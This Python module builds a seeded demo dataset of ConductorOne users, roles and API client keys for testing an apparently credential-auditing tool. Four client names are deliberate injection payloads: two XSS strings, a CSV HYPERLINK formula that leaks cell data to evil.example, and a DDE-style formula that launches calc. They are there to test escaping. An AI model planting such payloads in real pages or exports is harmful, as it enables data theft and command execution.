"""Data of the simulated ConductorOne tenant: a curated demo set and a seeded generator.

Everything is plain JSON in the vendor's shapes (openapi.yaml ``components.schemas``
``c1.api.iam.v1.PersonalClient``, ``c1.api.user.v1.User``, ``c1.api.iam.v1.Role``), so the simulator
serves it unchanged and tests can compare the adapter's output with exactly what was served. All
times are relative to ``anchor`` (the demo's as-of), and all randomness comes from
``random.Random(seed)``, so (seed, size, anchor) fixes every byte.

Curated set (``curated(anchor, seed)``): which record exercises which docs/architecture.md rule,
with the default policy (T = anchor). Owners: alice, henry, gina, ivan, judy (Basic Users, active),
bob (Super Administrator), carol (DISABLED), dave (DELETED), erin (status ENABLED but directory
DISABLED), frank (6 unexpired clients), a user id that does not exist ("ghost"), kim (ENABLED, but
HR employmentStatus Terminated), svc (a service user), agent (an agent user) and leo (holding the
custom role custom:break-glass).

====  ==========================================  =====================================
rec   display name (owner)                        rule(s) it fails
====  ==========================================  =====================================
C01   clean: ci deploy (alice)                    none: passes every rule
C02   clean: ipv6 office (henry)                  none (IPv6 /56, 9 fractional digits)
C03   clean: fresh, unused (henry)                none (never used, but 3 d < 14 d grace)
C04   stale: old laptop (gina)                    stale (last use T-120 d)
C05   never used: forgotten script (henry)        never-used (created T-30 d)
C06   no expiry: permanent (alice)                no-expiry (expiresTime null)
C07   no expiry: field absent (gina)              no-expiry (expiresTime absent)
C08   long lifetime (henry)                       long-lifetime (410 d)
C09   expired key (gina)                          expired (T-5 d)
C10   expiring soon (alice)                       expiring-soon (T+7 d)
C11   no CIDR: null (gina)                        no-source-restriction
C12   no CIDR: absent (henry)                     no-source-restriction
C13   no CIDR: empty list (alice)                 no-source-restriction
C14   broad v4 /8 (ivan)                          broad-source-restriction (IPv4)
C15   broad v4 any (gina)                         broad-source-restriction (0.0.0.0/0)
C16   broad v6 /32 (ivan)                         broad-source-restriction (IPv6)
C17   broad v6 any (ivan)                         broad-source-restriction (::/0)
C18   full access: empty scopedRoles (ivan)       full-owner-access
C19   full access: null scopedRoles (judy)        full-owner-access
C20   admin full (bob)                            full-owner-access, privileged-access
C21   admin scoped to owner role (bob)            privileged-access
C22   admin scoped to viewer (bob)                none (scoped below the owner's power)
C23   disabled owner (carol)                      inactive-owner (disabled)
C24   deleted owner (dave)                        inactive-owner (deleted)
C25   directory-disabled owner (erin)             inactive-owner (disabled)
C26   owner that does not exist (ghost)           inactive-owner (not_found)
C27-32 frank key 1..6 (frank)                     too-many-per-owner (6 > 5 unexpired)
C33   frank expired key (frank)                   expired (not counted by too-many)
C34   soft-deleted key (judy)                     none: excluded, counted in coverage
C35   <script> payload (judy)                     none: markup must be escaped
C36   <img onerror> payload (ivan)                none: markup must be escaped
C37   =HYPERLINK(...) (judy)                      none: CSV formula must be neutralised
C38   @SUM(...) formula (judy)                    none: CSV formula must be neutralised
C39   unknown scoped role id (judy)               none: the id is kept and noted
C40   HR-terminated owner (kim)                   inactive-owner (employmentStatus Terminated)
C41   service user key (svc)                      none (owner type USER_TYPE_SERVICE)
C42   agent user key (agent)                      none (owner type USER_TYPE_AGENT)
C43   break-glass owner, full (leo)               full-owner-access, privileged-access
C44   admin full, tenant allow list only (bob)    full-owner-access, privileged-access
C45   admin scoped to viewer, no CIDR (bob)       manual: no-/broad-source-restriction
====  ==========================================  =====================================

Tenant session settings: ``pccUserSource`` switched off (its list ignored), ``pccAdminSource``
enforced with two narrow networks. C44 has no list of its own but holds Super Administrator's
permissions, so the admin list restricts it (no-source-restriction passes). C45 holds only
Read-Only Administrator's permissions (its owner is a Super Administrator): whether the admin
list applies is not certain, so both network rules are ``manual``. C43's owner holds only the
custom role ``custom:break-glass``, whose permissions are all of Super Administrator's: the key
holds Super Administrator although no role id says so. C22 (bob, scoped to Read-Only
Administrator) holds Read-Only Administrator's permissions, not Super Administrator's.

Fractional digits rotate 0, 3, 6, 9 over the records (record index modulo 4); C02 uses 9.

The curated set is built here; the role catalogue is in ``providers.conductorone.simroles`` and
the record builders (and the words of generated names) in ``providers.conductorone.simrecords``,
both re-exported here.
"""

from __future__ import annotations

import random
from datetime import datetime, timedelta

from providers.conductorone.simrecords import (
    _ALNUM,
    ABSENT,
    ADJECTIVES,
    ANIMALS,
    DAY,
    JSON,
    Dataset,
    _role,
    allow_list,
    fmt,
    ksuid,
    make_client,
    make_roles,
    make_user,
)
from providers.conductorone.simroles import (
    _ADMIN_READ,
    _ADMIN_WRITE,
    _ALL,
    _APPS_READ,
    _APPS_WRITE,
    _BASE,
    _LOGS,
    _OWN_TASKS,
    _PERSONAL,
    _READS,
    _REVIEW_READ,
    _REVIEW_WRITE,
    BREAK_GLASS,
    BUILTIN_ROLES,
    CUSTOM_ROLES,
    ROLE_PERMISSIONS,
)

__all__ = [
    "ABSENT",
    "ADJECTIVES",
    "ANIMALS",
    "BREAK_GLASS",
    "BUILTIN_ROLES",
    "CUSTOM_ROLES",
    "DAY",
    "JSON",
    "ROLE_PERMISSIONS",
    "_ADMIN_READ",
    "_ADMIN_WRITE",
    "_ALL",
    "_ALNUM",
    "_APPS_READ",
    "_APPS_WRITE",
    "_BASE",
    "_LOGS",
    "_OWN_TASKS",
    "_PERSONAL",
    "_READS",
    "_REVIEW_READ",
    "_REVIEW_WRITE",
    "Dataset",
    "_role",
    "allow_list",
    "curated",
    "fmt",
    "ksuid",
    "make_client",
    "make_roles",
    "make_user",
]


def curated(anchor: datetime, seed: int = 0, host: str = "acme.conductor.one") -> Dataset:
    """The demo set; see the module docstring for which record exercises which rule."""
    rng = random.Random(f"c1-curated-{seed}")  # noqa: S311 - simulation, not security
    t = anchor
    roles, rid = make_roles(rng, anchor)
    basic, viewer, owner = [rid["system:user"]], [rid["system:viewer"]], [rid["system:owner"]]
    people = {
        "alice": ("Alice Basic", basic, "ENABLED", "ENABLED"),
        "bob": ("Bob Admin", [*owner, *basic], "ENABLED", "ENABLED"),
        "carol": ("Carol Disabled", basic, "DISABLED", "DISABLED"),
        "dave": ("Dave Deleted", basic, "DELETED", "DELETED"),
        "erin": ("Erin Leaver", basic, "ENABLED", "DISABLED"),
        "frank": ("Frank Many", basic, "ENABLED", "ENABLED"),
        "gina": ("Gina Viewer", [*viewer, rid["custom:reports"]], "ENABLED", "ENABLED"),
        "henry": ("Henry Local", basic, "ENABLED", "UNKNOWN"),
        "ivan": ("Ivan Basic", basic, "ENABLED", "ENABLED"),
        "judy": ("Judy Basic", basic, "ENABLED", "ENABLED"),
        "auditor": ("credaudit scanner", owner, "ENABLED", "ENABLED"),
    }
    ids = {key: ksuid(rng) for key in people}
    users = {
        ids[k]: make_user(ids[k], n, anchor, list(r), status=s, directory_status=d)
        for k, (n, r, s, d) in people.items()
    }
    users[ids["auditor"]]["type"] = "USER_TYPE_SERVICE"
    del users[ids["henry"]]["employmentStatus"]  # a local user: no HR record
    ids["ghost"] = ksuid(rng)  # never added to users: the API does not know this owner
    # Added later, after every id above was drawn, so those stayed as they were.
    more = {
        "kim": ("Kim Leaver", basic, "USER_TYPE_HUMAN", "Terminated"),  # HR: left; C1: ENABLED
        "svc": ("Deploy Bot", basic, "USER_TYPE_SERVICE", None),
        "agent": ("Triage Agent", [rid["custom:helpdesk"]], "USER_TYPE_AGENT", None),
        "leo": ("Leo Breakglass", [rid[BREAK_GLASS]], "USER_TYPE_HUMAN", "Active"),
    }
    for key, (name, role_list, kind, employment) in more.items():
        ids[key] = ksuid(rng)
        users[ids[key]] = make_user(
            ids[key], name, anchor, list(role_list), user_type=kind, employment=employment
        )
    clean: JSON = {
        "created": t - 60 * DAY,
        "last_used": t - DAY,
        "expires": t + 60 * DAY,
        "cidrs": ["10.20.30.0/24"],
        "scoped": basic,
    }
    specs: list[tuple[str, str, JSON]] = [
        ("clean: ci deploy", "alice", {}),
        ("clean: ipv6 office", "henry", {"cidrs": ["2001:db8:1200::/56"], "scoped": viewer}),
        ("clean: fresh, unused", "henry", {"created": t - 3 * DAY, "last_used": None}),
        (
            "stale: old laptop",
            "gina",
            {
                "last_used": t - 120 * DAY,
                "created": t - 200 * DAY,
                "expires": t + 100 * DAY,
                "scoped": viewer,
            },
        ),
        ("never used: forgotten script", "henry", {"created": t - 30 * DAY, "last_used": None}),
        ("no expiry: permanent", "alice", {"expires": None}),
        ("no expiry: field absent", "gina", {"expires": ABSENT, "scoped": viewer}),
        ("long lifetime", "henry", {"created": t - 10 * DAY, "expires": t + 400 * DAY}),
        (
            "expired key",
            "gina",
            {"created": t - 95 * DAY, "expires": t - 5 * DAY, "scoped": viewer},
        ),
        ("expiring soon", "alice", {"created": t - 83 * DAY, "expires": t + 7 * DAY}),
        ("no CIDR: null", "gina", {"cidrs": None, "scoped": viewer}),
        ("no CIDR: absent", "henry", {"cidrs": ABSENT}),
        ("no CIDR: empty list", "alice", {"cidrs": []}),
        ("broad v4 /8", "ivan", {"cidrs": ["10.0.0.0/8"]}),
        ("broad v4 any", "gina", {"cidrs": ["0.0.0.0/0", "192.168.1.0/24"], "scoped": viewer}),
        ("broad v6 /32", "ivan", {"cidrs": ["2001:db8::/32"]}),
        ("broad v6 any", "ivan", {"cidrs": ["::/0"]}),
        ("full access: empty scopedRoles", "ivan", {"scoped": []}),
        ("full access: null scopedRoles", "judy", {"scoped": None}),
        ("admin full", "bob", {"scoped": []}),
        ("admin scoped to owner role", "bob", {"scoped": owner}),
        ("admin scoped to viewer", "bob", {"scoped": viewer}),
        ("disabled owner", "carol", {}),
        ("deleted owner", "dave", {}),
        ("directory-disabled owner", "erin", {}),
        ("owner that does not exist", "ghost", {}),
        *[(f"frank key {i}", "frank", {}) for i in range(1, 7)],
        ("frank expired key", "frank", {"created": t - 40 * DAY, "expires": t - 2 * DAY}),
        ("soft-deleted key", "judy", {"deleted": t - 2 * DAY}),
        ('<script>alert("xss")</script>', "judy", {}),
        ("<img src=x onerror=alert(1)>", "ivan", {}),
        ('=HYPERLINK("https://evil.example/?leak="&A1,"Click me")', "judy", {}),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "judy", {}),
        ("unknown scoped role id", "judy", {"scoped": [basic[0], "UnknownRoleIdNotInCatalog00"]}),
        ("HR-terminated owner", "kim", {}),
        ("service user key", "svc", {}),
        ("agent user key", "agent", {"scoped": [rid["custom:helpdesk"]]}),
        ("break-glass owner, full", "leo", {"scoped": []}),
        ("admin full, tenant allow list only", "bob", {"scoped": [], "cidrs": ABSENT}),
        ("admin scoped to viewer, no CIDR", "bob", {"scoped": viewer, "cidrs": None}),
    ]
    clients = []
    for index, (name, who, overrides) in enumerate(specs):
        # A per-record shift (at most ~11 h, far from every rule boundary) gives real fractions.
        shift = timedelta(seconds=index * 997, microseconds=index * 12_345)
        fields = {
            k: v - shift if isinstance(v, datetime) else v
            for k, v in {**clean, **overrides}.items()
        }
        digits = 9 if index == 1 else (0, 3, 6, 9)[index % 4]
        cid = f"c{index + 1:02d}-{ADJECTIVES[index % len(ADJECTIVES)]}-{10000 + index * 7}"
        clients.append(
            make_client(cid, host, name, ids[who], digits=digits, nanos=123 + index, **fields)
        )
    settings = {
        # a list that is switched off is ignored, whatever it holds ("opt-in", global-settings.mdx)
        "pccUserSource": allow_list(False, ["10.0.0.0/8"]),
        "pccAdminSource": allow_list(True, ["203.0.113.0/24", "2001:db8:ad::/48"]),
        "ssoUserSource": None,
        "maxSessionLength": "72000s",
    }
    return Dataset(
        host, roles, users, clients, rid, ids["alice"], ids["auditor"], session_settings=settings
    )
